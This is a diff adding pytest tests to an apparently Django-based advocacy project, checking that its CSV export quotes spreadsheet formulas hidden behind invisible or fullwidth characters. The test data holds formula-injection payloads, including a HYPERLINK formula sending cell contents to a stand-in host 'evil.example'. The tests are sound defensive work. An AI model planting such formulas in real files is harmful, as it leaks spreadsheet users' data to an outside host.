@@ -274,6 +274,47 @@ def test_a_cell_starting_with_a_tab_or_carriage_return_is_quoted_too(start):
     assert _cell(start) == "'" + start
 
 
+HIDDEN_FORMULAS = {
+    "space": ' =HYPERLINK("http://evil.example/?"&A1,"x")',
+    "nul": "\x00=2+3",
+    "zero-width space": "\u200b=2+3",
+    "newline": "\n@SUM(1+1)",
+    "fullwidth equals": '＝HYPERLINK("http://evil.example/")',
+    "fullwidth plus": "＋SUM(1+1)",
+    "small equals": "﹦2+3",
+}
+
+
+@pytest.mark.parametrize("start", HIDDEN_FORMULAS.values(), ids=HIDDEN_FORMULAS.keys())
+def test_a_formula_behind_invisible_or_fullwidth_characters_is_quoted(start):
+    from habeas.advocacy.export import _cell
+
+    assert _cell(start) == "'" + start
+
+
+@pytest.mark.parametrize("text", ["Rustam Isakov", " Release him", "２０２１ ＝ year", ""])
+def test_text_that_is_no_formula_is_left_as_it_is(text):
+    from habeas.advocacy.export import _cell
+
+    assert _cell(text) == text
+
+
+def test_the_partner_csv_quotes_a_formula_however_it_is_disguised(published):
+    """GIVEN profile text whose formula hides behind a zero-width space or a
+    fullwidth equals sign (stored as typed, or by an older version)
+    THEN the partner export quotes it all the same."""
+    from habeas.advocacy.models import PublicProfile
+
+    PublicProfile.objects.filter(pk=published.pk).update(
+        name=HIDDEN_FORMULAS["fullwidth equals"], summary=HIDDEN_FORMULAS["nul"]
+    )
+    out = io.StringIO()
+    call_command("export", "public", format="csv", stdout=out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["name"] == "'" + HIDDEN_FORMULAS["fullwidth equals"]
+    assert row["summary"] == "'" + HIDDEN_FORMULAS["nul"]
+
+
 # --- Download names ----------------------------------------------------------
 
 
